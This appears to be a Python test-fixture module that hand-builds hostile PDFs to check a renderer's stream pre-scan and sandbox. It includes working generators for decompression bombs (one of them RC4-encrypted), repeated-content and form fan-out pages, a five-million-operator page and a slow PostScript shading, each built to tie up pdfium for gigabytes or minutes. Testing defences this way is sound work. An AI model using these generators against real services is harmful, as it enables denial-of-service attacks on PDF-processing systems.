"""PDFs written by hand, and the bombs that get past a stream pre-scan (re-exported by :mod:`hostile_files`).

The pre-scan (``render/pdf/scan.py``) bounds what each stream inflates to before pdfium sees
the file. These files keep every stream under that cap, or out of its sight, and still ask
pdfium for gigabytes or minutes:

a. an RC4-encrypted page whose content inflates to a gibibyte (the scan cannot read ciphertext);
b. a page whose ``/Contents`` array lists one 100 MiB stream 24 times;
c. form XObjects drawing each other a thousand times over, three levels deep;
d. five million path operators in one well-compressed stream, under the per-stream cap;
e. a shading whose PostScript function runs 20,000 operators for each of a million pixels;
f. a Flate stream whose image dictionary declares 1000 x 1000 pixels and which inflates to a
   gibibyte, pointed at as the page's content: the pre-scan checks such an image by its declared
   size when the sandbox binds pdfium (pdfium's image decoder stops at the declared rows), so
   only the sandbox stops pdfium inflating it as content. Drawn as an image, it renders.

Each builds in milliseconds: :func:`deflate_repeated` compresses one MiB and repeats it.
"""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterable

GIB = 1024**3
MIB = 1024 * 1024

__all__ = [
    "FONT",
    "GIB",
    "PAGE_TEXT",
    "deflate_repeated",
    "encrypted_bomb_pdf",
    "form_fanout_pdf",
    "image_bomb_pdf",
    "many_contents_pdf",
    "many_paths_pdf",
    "one_page",
    "slow_shading_pdf",
    "stream",
    "write_pdf",
]

PAGE_TEXT = b"BT /F1 24 Tf 72 720 Td (Invoice 42 total 10.00) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_ADLER = 65521


def deflate_repeated(size: int, *, prefix: bytes = b"", filler: bytes = b" ") -> bytes:
    """Returns the zlib stream of ``prefix`` then ``filler`` repeated, ``size`` bytes in all.

    Fast for any size: after a full flush deflate forgets its history, so every MiB of filler
    compresses to the same bytes, which are repeated; the Adler-32 checksum is combined the
    way zlib's ``adler32_combine`` does. One GiB of spaces gives about one MiB.
    """
    chunk = filler * (MIB // len(filler))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)  # raw deflate: header and checksum are ours
    head = (prefix + chunk[: max(0, MIB - len(prefix)) // len(filler) * len(filler)])[:size]
    parts = [compressor.compress(head), compressor.flush(zlib.Z_FULL_FLUSH)]
    check = zlib.adler32(head)
    full, rest = divmod(size - len(head), len(chunk))
    if full:
        parts.append((compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)) * full)
        one = zlib.adler32(chunk)
        for _ in range(full):
            check = _adler_combine(check, one, len(chunk))
    parts.append(compressor.compress(chunk[:rest]) + compressor.flush())
    check = _adler_combine(check, zlib.adler32(chunk[:rest]), rest)
    return b"\x78\xda" + b"".join(parts) + check.to_bytes(4, "big")


def _adler_combine(first: int, second: int, length: int) -> int:
    rem = length % _ADLER
    low = first & 0xFFFF
    high = (rem * low) % _ADLER
    low = (low + (second & 0xFFFF) + _ADLER - 1) % _ADLER
    high = (high + ((first >> 16) & 0xFFFF) + ((second >> 16) & 0xFFFF) + _ADLER - rem) % _ADLER
    return low | (high << 16)


def write_pdf(objects: Iterable[bytes], *, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """Writes a PDF whose object ``n`` (1-based) is the ``n``-th item of ``objects``."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number)
        out.write(body)
        out.write(b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(offsets) + 1, root, trailer_extra, xref)
    )
    return out.getvalue()


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """A stream object's body: its dictionary (``/Length`` and ``extra``), then ``data``."""
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def one_page(*objects: bytes, contents: bytes = b"4 0 R", resources: bytes = b"<< /Font << /F1 5 0 R >> >>") -> bytes:
    """A one-page PDF whose objects 4, 5, ... are ``objects``."""
    return write_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %s /Resources %s >>"
            % (contents, resources),
            *objects,
        ]
    )


def encrypted_bomb_pdf(size: int = GIB) -> bytes:
    """(a) An RC4-encrypted PDF (empty user password) whose page content inflates to ``size`` bytes.

    The content is deflated twice (``/Filter [/FlateDecode /FlateDecode]``), so the ciphertext is
    a few KiB and pypdf's pure-Python RC4 encrypts it at once.
    """
    from pypdf import PdfReader, PdfWriter

    content = zlib.compress(deflate_repeated(size, prefix=PAGE_TEXT + b"\n"), 9)
    plain = one_page(stream(content, b"/Filter [/FlateDecode /FlateDecode] "), FONT)
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain)))
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def many_contents_pdf(count: int = 24, size: int = 100 * MIB) -> bytes:
    """(b) A page whose ``/Contents`` lists one stream of ``size`` bytes ``count`` times (2.4 GiB in all)."""
    content = deflate_repeated(size, prefix=PAGE_TEXT + b"\n")
    contents = b"[" + b" ".join([b"4 0 R"] * count) + b"]"
    return one_page(stream(content, b"/Filter /FlateDecode "), FONT, contents=contents)


def form_fanout_pdf(depth: int = 3, fan: int = 1000) -> bytes:
    """(c) The page draws form X1 ``fan`` times, X1 draws X2 ``fan`` times, ... ``depth`` levels of forms."""
    draws = zlib.compress(b"q 1 0 0 1 0 0 cm /X Do Q\n" * fan)
    forms = []
    for level in range(depth):
        last = level == depth - 1
        body = zlib.compress(b"0 0 m 10 10 l S\n") if last else draws
        inner = b"" if last else b"/Resources << /XObject << /X %d 0 R >> >> " % (6 + level)
        kind = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Filter /FlateDecode "
        forms.append(stream(body, kind + inner))
    return one_page(stream(draws, b"/Filter /FlateDecode "), *forms, resources=b"<< /XObject << /X 5 0 R >> >>")


def many_paths_pdf(count: int = 5_000_000) -> bytes:
    """(d) One page drawing ``count`` line segments (70 MB of operators, under the 128 MiB stream cap)."""
    operators = b"0 0 m 1 1 l S\n"
    content = deflate_repeated(count * len(operators), filler=operators)
    return one_page(stream(content, b"/Filter /FlateDecode "), resources=b"<< >>")


def slow_shading_pdf(operators: int = 20_000) -> bytes:
    """(e) A page filled by a function-based shading whose PostScript function runs ``operators`` steps a pixel.

    pdfium evaluates the function for every pixel inside one ``FPDF_RenderPage`` call: with the
    default image budget that is about 2 x 10^10 steps, minutes in one call.
    """
    function = zlib.compress(b"{ " + b"dup pop " * (operators // 2) + b"pop 0.5 }")
    shading = (
        b"<< /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 1 0 1] /Matrix [612 0 0 792 0 0] /Function 6 0 R >>"
    )
    return one_page(
        stream(b"/S sh"),
        shading,
        stream(function, b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1] /Filter /FlateDecode "),
        resources=b"<< /Shading << /S 5 0 R >> >>",
    )


def image_bomb_pdf(size: int = GIB, *, as_contents: bool = True) -> bytes:
    """(f) A 1000 x 1000 RGB Flate image whose data inflates to ``size`` bytes, far beyond its 3 MB raster.

    With ``as_contents`` the page's ``/Contents`` is that stream (pdfium inflates it in full);
    otherwise the page draws it as an image (pdfium inflates the first 1000 rows, the rest is
    never read) over a line of text.
    """
    image = stream(
        deflate_repeated(size, filler=b"\x80"),
        b"/Type /XObject /Subtype /Image /Width 1000 /Height 1000 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /FlateDecode ",
    )
    if as_contents:
        return one_page(image, FONT)
    draw = stream(b"q 300 0 0 300 72 400 cm /Im1 Do Q " + PAGE_TEXT)
    return one_page(draw, FONT, image, resources=b"<< /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >>")
